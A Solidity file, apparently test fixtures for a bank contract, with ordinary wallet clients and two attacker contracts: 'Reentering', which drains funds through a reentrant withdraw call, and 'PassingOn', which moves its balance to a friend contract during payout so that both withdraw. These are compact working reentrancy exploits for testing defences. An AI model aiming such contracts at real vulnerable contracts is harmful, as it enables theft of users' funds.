// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Bank {
    function deposit() external payable;

    function withdraw() external;

    function pass(address to, uint256 amount) external;
}

contract Wallet {
    Bank internal immutable bank;

    constructor(Bank bank_) {
        bank = bank_;
    }

    function save() external payable {
        bank.deposit{value: msg.value}();
    }

    function take() external {
        bank.withdraw();
    }

    function pass_on(address to, uint256 amount) external {
        bank.pass(to, amount);
    }

    receive() external payable virtual {}
}

contract Hermit {
    Bank private immutable bank;

    constructor(Bank bank_) {
        bank = bank_;
    }

    function save() external payable {
        bank.deposit{value: msg.value}();
    }

    function take() external {
        bank.withdraw();
    }
}

contract Reentering is Wallet {
    constructor(Bank bank_) Wallet(bank_) {}

    function attack() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable override {
        if (address(bank).balance >= msg.value) bank.withdraw();
    }
}

/// Passes what it has on to a friend while it is being paid, and the friend takes it too.
contract PassingOn is Wallet {
    Wallet private immutable friend;

    constructor(Bank bank_) Wallet(bank_) {
        friend = new Wallet(bank_);
    }

    function attack() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
        friend.take();
    }

    receive() external payable override {
        bank.pass(address(friend), msg.value);
    }
}
